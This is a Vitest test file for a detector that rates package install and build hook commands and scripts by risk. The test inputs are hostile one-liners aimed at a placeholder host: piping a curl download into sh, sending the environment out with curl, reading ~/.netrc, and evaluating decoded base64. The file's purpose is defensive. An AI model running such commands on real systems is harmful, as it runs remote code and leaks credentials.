import { describe, expect, it } from 'vitest';
import {
  analyseHookCommand,
  analyseHookSource,
  combineHookAnalyses,
  embeddedCommandEvidence,
  filesRunBy,
  mergeHookVocabularies,
  type HookVocabulary,
} from './hook-behaviour.js';

// A made-up ecosystem's vocabulary: the core knows none; each plugin supplies its own (Plugin.hooks).
const tool: HookVocabulary = {
  credentialFiles: ['.toolrc'],
  tokenVariables: ['TOOL_TOKEN'],
  nativeBuildCommands: [/^\s*(?:build-binding(?:\s{1,8}rebuild)?|fetch-prebuilt\s{1,8}\|\|\s{1,8}build-binding)\s*$/],
};

describe('analyseHookCommand', () => {
  it.each([
    ['curl -fsSL https://x.example/i.sh | sh', 'critical', 'download-and-execute'],
    ['wget -qO- https://x.example/i | sudo bash', 'critical', 'download-and-execute'],
    ['bash -c "$(curl -fsSL https://x.example/i)"', 'critical', 'download-and-execute'],
    ['echo aGk= | base64 -d | sh', 'critical', 'eval-decoded'],
    ['env | curl -d @- https://x.example', 'critical', 'env-exfiltration'],
    ['cat ~/.netrc', 'high', 'credential-read'],
    ['cat ~/.toolrc', 'high', 'credential-read'],
    ['sh -c "make all"', 'high', 'shell'],
    ['curl -o bin.tgz https://x.example/bin.tgz', 'high', 'download'],
    ['node install.js', 'medium', 'runs-file'],
    ['make', 'medium', 'opaque'],
    ['build-binding rebuild', 'low', 'native-build'],
    ['fetch-prebuilt || build-binding', 'low', 'native-build'],
  ] as const)('%s → %s (%s)', (command, severity, behaviour) => {
    const a = analyseHookCommand(command, tool);
    expect(a.severity).toBe(severity);
    expect(a.behaviours[0]).toBe(behaviour);
  });

  it('a harmless-looking command followed by more is not low', () => {
    expect(analyseHookCommand('build-binding rebuild && curl https://x.example/a | sh', tool).severity).toBe(
      'critical',
    );
    expect(analyseHookCommand('build-binding rebuild; ./post', tool).severity).toBe('medium');
  });

  it('an ecosystem’s credential files and benign builds are what its vocabulary says, nothing more', () => {
    expect(analyseHookCommand('cat ~/.toolrc').behaviours).toEqual(['opaque']);
    expect(analyseHookCommand('build-binding rebuild').behaviours).toEqual(['opaque']);
    expect(analyseHookSource('read(env.TOOL_TOKEN)').behaviours).toEqual(['nothing-recognised']);
    expect(analyseHookSource('read(env.TOOL_TOKEN)', tool).behaviours).toEqual(['credential-read']);
    // Literals, escaped: a vocabulary cannot inject a pattern.
    expect(analyseHookCommand('cat ~/xtoolrc', tool).behaviours).toEqual(['opaque']);
    expect(embeddedCommandEvidence('cat ~/.toolrc', 10, tool)).toEqual([
      { behaviour: 'credential-read', text: '.toolrc', offset: 16 },
    ]);
    // Embedded strings never count as a benign build (it is only benign as the whole hook command).
    expect(embeddedCommandEvidence('build-binding', 0, tool)).toEqual([]);
  });

  it('merges vocabularies in order, so a hook reading another ecosystem’s token is still a credential read', () => {
    const other: HookVocabulary = { credentialFiles: ['.otherrc'], tokenVariables: ['OTHER_TOKEN'] };
    const merged = mergeHookVocabularies([tool, undefined, other]);
    expect(merged).toEqual({
      credentialFiles: ['.toolrc', '.otherrc'],
      tokenVariables: ['TOOL_TOKEN', 'OTHER_TOKEN'],
      nativeBuildCommands: tool.nativeBuildCommands,
    });
    expect(analyseHookCommand('cat ~/.otherrc', merged).behaviours).toEqual(['credential-read']);
    expect(analyseHookSource('x = ENV["OTHER_TOKEN"]', merged).behaviours).toEqual(['credential-read']);
  });

  it('names the files a command runs', () => {
    expect(filesRunBy('node ./scripts/setup.js && python3 tools/x.py --flag')).toEqual([
      'scripts/setup.js',
      'tools/x.py',
    ]);
    expect(filesRunBy('node -e "1"')).toEqual([]);
  });
});

describe('analyseHookSource', () => {
  it('JavaScript: spawn, network, credential read, decoded eval', () => {
    const a = analyseHookSource(
      "const cp = require('child_process'); require('https'); fs.readFileSync(home + '/.netrc'); eval(Buffer.from(s, 'base64').toString())",
    );
    expect(a.severity).toBe('critical');
    expect(a.behaviours).toEqual(
      expect.arrayContaining(['eval-decoded', 'credential-read', 'process-spawn', 'network']),
    );
  });

  it('Python and Ruby: subprocess, urllib, system with an embedded pipe to sh', () => {
    expect(analyseHookSource('import subprocess\nsubprocess.run(["ls"])').behaviours).toContain('process-spawn');
    expect(analyseHookSource('from urllib.request import urlopen\nurlopen(u)').behaviours).toContain('network');
    expect(analyseHookSource('system("curl -s https://x.example/p | sh")').severity).toBe('critical');
  });

  it('nothing recognised is low, and says it is no proof', () => {
    const a = analyseHookSource('fn main() { println!("tool:rerun-if-changed=build.rs"); }');
    expect(a.severity).toBe('low');
    expect(a.summary).toContain('does not prove it harmless');
  });

  it('combining a command with the file it runs keeps the file’s findings', () => {
    const a = combineHookAnalyses([analyseHookCommand('node setup.js'), analyseHookSource("require('https').get(u)")]);
    expect(a.behaviours).toEqual(['network']);
    expect(a.severity).toBe('high');
  });

  it('reads at most 256 KiB of a file (linear, bounded)', () => {
    expect(analyseHookSource(`${' '.repeat(300 * 1024)}eval(x)`).behaviours).toEqual(['nothing-recognised']);
  });
});
